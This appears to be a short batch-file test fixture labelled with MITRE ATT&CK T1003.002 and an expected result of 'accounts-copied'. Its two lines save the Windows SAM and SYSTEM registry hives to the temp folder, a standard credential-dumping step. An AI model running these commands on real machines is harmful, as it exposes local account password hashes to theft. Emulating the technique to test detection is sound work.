@rem expect: accounts-copied | source: MITRE ATT&CK T1003.002
reg save HKLM\SAM %TEMP%\s /y
reg save HKLM\SYSTEM %TEMP%\y /y
